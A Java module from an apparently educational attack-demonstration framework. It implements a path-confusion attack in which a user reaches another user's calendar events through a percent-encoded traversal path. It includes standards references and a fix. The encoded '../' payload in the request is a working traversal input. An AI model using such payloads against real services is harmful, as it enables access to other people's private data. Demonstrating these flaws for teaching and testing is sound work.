package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;

/** Asks by a path that the policy and the router read differently. */
@AutoService(Attack.class)
public final class PathConfusion implements Attack {
  @Override
  public AttackCard card() {
    return new AttackCard(
        "path-confusion",
        "One path, read twice",
        AttackGroup.AUTHORIZATION,
        "Dave asks for something in his own calendar by a path that leads out of it once its escapes are undone.",
        "An account of their own.",
        "The policy judges the path as it was sent, and the router tidies it up before it looks what to serve.",
        "lenient-path",
        List.of("RFC 3986 §6", "OWASP API5:2023", "CWE-436", "CWE-22"),
        "Refuse paths that can be read in two ways, or read them once and let everybody use that reading.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    String own = Events.calendarOfAttacker(target);
    Hop answer =
        target.send(
            "Ask with whom Dave's calendar is shared, by a name that is a way to Alice's events.",
            target.as(
                Loot.ATTACKER,
                target.get(
                    "/calendars/" + own + "/sharing/%2e%2e%2f%2e%2e%2falice-work%2fevents")));
    return target.end(Events.areIn(answer), Events.GAIN);
  }
}
